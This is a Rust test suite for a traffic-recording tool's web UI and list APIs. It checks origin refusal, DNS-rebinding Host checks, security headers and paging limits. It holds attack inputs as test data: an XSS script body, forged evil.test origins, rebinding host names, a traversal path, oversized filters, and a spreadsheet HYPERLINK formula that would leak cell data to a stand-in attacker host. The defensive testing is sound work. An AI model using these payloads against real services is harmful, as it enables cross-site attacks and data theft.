//! The web UI and the lists behind it, as a hostile page, a rebound name and an impatient client ask for them. What needs a browser is in
//! `tests/ui/rows.test.mjs`.

use countersign_proto::control::v1::{
    ListPairsRequest, ListSnapshotsRequest, snapshot_service_client::SnapshotServiceClient,
    traffic_service_client::TrafficServiceClient,
};
use std::net::SocketAddr;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};
use tonic_types::StatusExt as _;

use super::*;

const PARENT: &str = "projects/default";
const SERVICE: &str = "/countersign.control.v1.SnapshotService";

/// A world whose control plane has a web UI, and where that listens.
async fn with_ui(cases: Vec<Case>) -> (World, SocketAddr) {
    let listeners = Setup::of_plane("--ui-listen 127.0.0.1:0 --admin-listen 127.0.0.1:0");
    let mut world = World::serve_with(cases, &listeners).await;
    let ui = world.plane.address("ui").await;
    (world, ui)
}

/// Sends a request as it is written, and returns status and whole answer.
async fn send(to: SocketAddr, head: &str, body: &[u8]) -> (u16, String) {
    let mut stream = TcpStream::connect(to).await.unwrap();
    let head = format!("{head}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
    stream.write_all(&[head.as_bytes(), body].concat()).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    let answer = String::from_utf8_lossy(&answer).into_owned();
    let status = answer.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0);
    (status, answer.to_ascii_lowercase())
}

/// A call of gRPC-web that deletes a snapshot.
fn deletes(snapshot: &str) -> Vec<u8> {
    let name = format!("{PARENT}/snapshots/{snapshot}");
    let length = u8::try_from(name.len()).unwrap();
    [&[0, 0, 0, 0, length + 2, 0x0a, length][..], name.as_bytes()].concat()
}

fn import(world: &World, id: &str) {
    let file = world.dir.path().join("all.jsonl");
    drop(world.cli(&["snapshot", "import", &file.to_string_lossy(), "--id", id]).ok());
}

#[tokio::test]
async fn u02_no_url_leads_to_recorded_bytes_and_every_answer_forbids_to_guess() {
    let page = "<!doctype html><script>alert(1)</script>";
    let case = Case::of_steps("page", page, json!([]));
    let (world, ui) = with_ui(vec![case]).await;
    // Who saves a body has its bytes from a call, and makes the file itself: see the test with a browser.
    for path in [
        "/",
        "/page",
        "/snapshots/all/pairs/0",
        "/projects/default/snapshots/all",
        "/..%2f",
        "/app.js/",
    ] {
        let (status, answer) = send(ui, &format!("GET {path} HTTP/1.1\r\nHost: {ui}"), b"").await;
        assert_eq!(status, if path == "/" { 200 } else { 404 }, "{path}");
        assert!(!answer.contains("alert(1)"), "{path}: {answer}");
        for rule in
            ["x-content-type-options: nosniff", "default-src 'none'", "x-frame-options: deny"]
        {
            assert!(answer.contains(rule), "{path}: no {rule} in {answer}");
        }
        let (policy, _) = answer.split_once("\r\n\r\n").unwrap();
        assert!(!policy.contains("unsafe-") && !policy.contains("access-control"), "{policy}");
    }
    drop(world.end().await);
}

#[tokio::test]
async fn u03_what_another_page_sends_is_refused_and_changes_nothing() {
    let (world, ui) = with_ui(Vec::new()).await;
    import(&world, "victim");
    let call = format!("POST {SERVICE}/DeleteSnapshot HTTP/1.1\r\nHost: {ui}");
    let grpc = "Content-Type: application/grpc-web+proto";
    let own = format!("Origin: http://{ui}");
    for (fields, expected) in [
        (grpc.to_owned(), 403),
        (format!("{grpc}\r\nOrigin: null"), 403),
        (format!("{grpc}\r\nOrigin: http://evil.test"), 403),
        (format!("{grpc}\r\nOrigin: https://{ui}"), 403),
        (format!("{grpc}\r\n{own}\r\nOrigin: http://evil.test"), 403),
        (format!("{grpc}\r\n{own}\r\nSec-Fetch-Site: cross-site"), 403),
        // What a page may send to others without asking: forms, and `fetch` with `no-cors`.
        ("Content-Type: application/x-www-form-urlencoded\r\nOrigin: http://evil.test".into(), 403),
        ("Content-Type: multipart/form-data; boundary=x\r\nOrigin: http://evil.test".into(), 403),
        ("Content-Type: text/plain\r\nOrigin: http://evil.test".into(), 403),
        ("Origin: http://evil.test".into(), 403),
        // The page itself, but not as it calls.
        (format!("Content-Type: text/plain\r\n{own}"), 415),
        (format!("Content-Type: application/json\r\n{own}"), 415),
    ] {
        let (status, answer) = send(ui, &format!("{call}\r\n{fields}"), &deletes("victim")).await;
        assert_eq!(status, expected, "{fields}: {answer}");
        assert!(!answer.contains("grpc-status") && !answer.contains("access-control-"), "{answer}");
        drop(world.cli(&["snapshot", "show", "victim"]).ok());
    }
    let preflight = format!(
        "OPTIONS {SERVICE}/DeleteSnapshot HTTP/1.1\r\nHost: {ui}\r\nOrigin: http://evil.test"
    );
    let asked = format!("{preflight}\r\nAccess-Control-Request-Method: POST");
    let (status, answer) = send(ui, &asked, b"").await;
    assert_eq!(status, 405, "{answer}");
    assert!(!answer.contains("access-control-"), "{answer}");
    // The responder's own switches are for no page at all.
    let admin = world.admin.server();
    for (method, path) in [("POST", "/reset"), ("DELETE", "/journal")] {
        let head = format!("{method} {path} HTTP/1.1\r\nHost: {admin}\r\nOrigin: http://evil.test");
        assert_eq!(send(admin, &head, b"").await.0, 403, "{path}");
    }
    // The same call from the page itself does what it says.
    let (status, answer) =
        send(ui, &format!("{call}\r\n{grpc}\r\n{own}"), &deletes("victim")).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(world.cli(&["snapshot", "show", "victim"]).code(), 3);
    drop(world.end().await);
}

#[tokio::test]
async fn u04_names_that_somebody_else_resolves_lead_nowhere() {
    let (mut world, ui) = with_ui(Vec::new()).await;
    import(&world, "victim");
    let of_plane = world.plane.address("admin").await;
    let of_responder = world.admin.server();
    let port = ui.port();
    for host in [
        "evil.test".to_owned(),
        format!("evil.test:{port}"),
        format!("127.0.0.1.evil.test:{port}"),
        format!("localhost.evil.test:{port}"),
        format!("0.0.0.0:{port}"),
        format!("[::]:{port}"),
        format!("[::1%25lo]:{port}"),
        format!("[fe80::1%25eth0]:{port}"),
    ] {
        let page = send(ui, &format!("GET / HTTP/1.1\r\nHost: {host}"), b"").await;
        assert_eq!(page.0, 421, "{host}: {}", page.1);
        let fields = format!(
            "Host: {host}\r\nOrigin: http://{host}\r\nContent-Type: application/grpc-web+proto"
        );
        let call = format!("POST {SERVICE}/DeleteSnapshot HTTP/1.1\r\n{fields}");
        let called = send(ui, &call, &deletes("victim")).await;
        assert_eq!(called.0, 421, "{host}: {}", called.1);
        for (listener, path) in
            [(of_responder, "/journal"), (of_responder, "/status"), (of_plane, "/metrics")]
        {
            let told = send(listener, &format!("GET {path} HTTP/1.1\r\nHost: {host}"), b"").await;
            // What is no host at all is refused as such.
            assert!([400, 421].contains(&told.0), "{host} {path}: {}", told.1);
            assert!(!told.1.contains("countersign_"), "{host} {path}: {}", told.1);
        }
    }
    drop(world.cli(&["snapshot", "show", "victim"]).ok());
    for host in [ui.to_string(), format!("localhost:{port}")] {
        assert_eq!(
            send(ui, &format!("GET / HTTP/1.1\r\nHost: {host}"), b"").await.0,
            200,
            "{host}"
        );
    }
    drop(world.end().await);
}

#[tokio::test]
async fn u07_nothing_is_exported_that_a_spreadsheet_would_take_for_a_formula() {
    // There is no export for spreadsheets, which is the only thing that makes formulas of what was recorded; JSON, HAR and markdown stay as they are.
    let formula = r#"=HYPERLINK("http://evil.test/?"&A1,"click")"#;
    let world = World::serve(vec![Case::of_steps("formula", formula, json!([]))]).await;
    let csv = world.cli(&["snapshot", "export", "all", "--format", "csv", "--out", "-"]);
    assert_eq!(csv.code(), 2, "{}", csv.text());
    for known in ["jsonl", "markdown", "wiremock", "har"] {
        assert!(csv.text().contains(known), "{}", csv.text());
    }
    // What formats there are, and may be some day, is told by the help: none of them is one of fields and separators.
    let help = world.cli(&["snapshot", "export", "--help"]).ok().text().to_lowercase();
    for kind in ["csv", "tsv", "xlsx", "excel"] {
        assert!(!help.contains(kind), "{kind}: {help}");
    }
    drop(world.end().await);
}

#[tokio::test]
async fn u08_lists_have_pages_of_bounded_size_wherever_they_begin() {
    const PAIRS: usize = 20_000;
    let world = World::serve(Vec::new()).await;
    let lines: String = (0..PAIRS)
        .map(|nth| recording::line("GET", &format!("/n/{nth}"), &json!(nth)) + "\n")
        .collect();
    let file = world.dir.path().join("many.jsonl");
    fs::write(&file, lines).unwrap();
    drop(world.cli(&["snapshot", "import", &file.to_string_lossy(), "--id", "many"]).ok());
    let mut traffic = TrafficServiceClient::connect(world.server.clone()).await.unwrap();
    let asked = |page_size: i32, start_ordinal: u64, filter: &str| ListPairsRequest {
        parent: format!("{PARENT}/snapshots/many"),
        page_size,
        start_ordinal,
        filter: filter.into(),
        ..ListPairsRequest::default()
    };
    let page = traffic.list_pairs(asked(i32::MAX, 0, "")).await.unwrap().into_inner();
    assert_eq!((page.pairs.len(), page.total_pairs), (1_000, 20_000));
    // A page in the middle is found by its key, not by counting up to it; the next one begins where it ends.
    let page = traffic.list_pairs(asked(7, 15_000, "")).await.unwrap().into_inner();
    let ordinals: Vec<u64> = page.pairs.iter().map(|row| row.ordinal).collect();
    assert_eq!(ordinals, (15_000..15_007).collect::<Vec<_>>());
    let next = ListPairsRequest { page_token: page.next_page_token.clone(), ..asked(7, 0, "") };
    let next = traffic.list_pairs(next).await.unwrap().into_inner();
    assert_eq!(next.pairs[0].ordinal, 15_007);
    // A token belongs to its list, and a size is none below nothing.
    let other =
        ListPairsRequest { page_token: page.next_page_token, ..asked(7, 0, "(status IS \"200\")") };
    for (request, reason) in
        [(other, "INVALID_PAGE_TOKEN"), (asked(-1, 0, ""), "INVALID_PAGE_SIZE")]
    {
        let refused = traffic.list_pairs(request).await.unwrap_err();
        assert_eq!(refused.get_details_error_info().unwrap().reason, reason);
    }
    // A filter that finds nothing ends its page after a moment, and says how far it came.
    let page = traffic.list_pairs(asked(10, 0, "(status IS \"999\")")).await.unwrap().into_inner();
    assert!(page.pairs.is_empty() && page.scanned_pairs > 0, "{page:?}");
    let deep = format!("{}(status IS \"200\"){}", "(".repeat(5_000), ")".repeat(5_000));
    let large = r#"(location REGEX "\\w{1000}\\w{1000}")"#;
    for filter in [deep.as_str(), large, &"x".repeat(2 * 1024 * 1024)] {
        let refused = traffic.list_pairs(asked(10, 0, filter)).await.unwrap_err();
        assert_eq!(refused.code(), tonic::Code::InvalidArgument, "{refused:?}");
        assert_eq!(refused.get_details_error_info().unwrap().reason, "INVALID_FILTER");
    }
    let mut snapshots = SnapshotServiceClient::connect(world.server.clone()).await.unwrap();
    let request = ListSnapshotsRequest {
        parent: PARENT.into(),
        page_size: i32::MAX,
        ..ListSnapshotsRequest::default()
    };
    let listed = snapshots.list_snapshots(request).await.unwrap().into_inner();
    assert_eq!(listed.snapshots.len(), 2);
    drop(world.end().await);
}
